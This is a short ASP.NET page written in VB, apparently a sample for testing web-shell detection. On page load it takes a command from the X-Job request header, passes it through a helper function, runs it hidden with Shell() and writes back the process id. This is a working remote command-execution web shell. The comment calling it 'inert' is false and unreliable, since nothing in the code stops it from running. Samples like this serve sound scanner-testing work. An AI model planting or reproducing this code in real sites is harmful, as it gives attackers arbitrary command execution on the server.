<%@ Page Language="VB" %>
<%-- inert sample: the command comes back from a helper's Return and is run by VB's Shell() --%>
<script runat="server">
    Private Function Pick() As String
        Dim v As String = Request.Headers("X-Job")
        If String.IsNullOrEmpty(v) Then
            Return "hostname"
        End If
        Return v
    End Function

    Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs) Handles Me.Load
        Dim line As String = Pick()
        Dim id As Integer = Shell(line, AppWinStyle.Hide)
        Response.Write(id)
    End Sub
</script>
